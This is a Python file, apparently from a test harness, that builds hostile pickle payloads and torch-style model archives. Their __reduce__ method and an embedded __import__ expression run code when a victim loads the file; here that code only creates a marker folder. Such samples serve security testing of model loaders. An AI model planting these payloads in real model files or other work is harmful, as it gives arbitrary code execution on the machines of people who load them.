"""Runs code in whoever unpickles it: a pickle, and the archives of torch that hold one."""

import io
import json
import os
import pickle
import zipfile

from hostile import hostile

ATTACK = 27
RULES = ("free", "fixed")
MARKER = "mlgolf-artifact-ran"
"""the file that appears in the working folder of whoever falls for it"""


class Payload:
    def __reduce__(self):
        return os.mkdir, (MARKER,)


def _archive(*files):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in files:
            archive.writestr(name, content)
    return stream.getvalue()


@hostile("", "unpickling")
def bare():
    return pickle.dumps(Payload())


@hostile("", "unpickling")
def old():
    return pickle.dumps(Payload(), protocol=0)


@hostile("", "unpickling an archive")
def pt():
    """As torch.save writes it."""
    return _archive(("archive/data.pkl", pickle.dumps(Payload())), ("archive/version", "3\n"), ("archive/data/0", bytes(8)))


@hostile("", "unpickling an archive")
def pt2():
    """As torch.export.save writes it, where what is no tensor is unpickled."""
    model = json.dumps({"graph_module": {"range_constraints": {f"__import__('os').mkdir('{MARKER}')": {}}}})
    return _archive(
        ("archive/archive_format", "pt2"),
        ("archive/models/model.json", model),
        ("archive/data/constants/data.pkl", pickle.dumps(Payload())),
    )


@hostile("", "unpickling")
def behind_a_length():
    """Begins like safetensors: eight bytes that could be the length of a header."""
    return pickle.dumps(Payload(), protocol=0) + b" " * 200
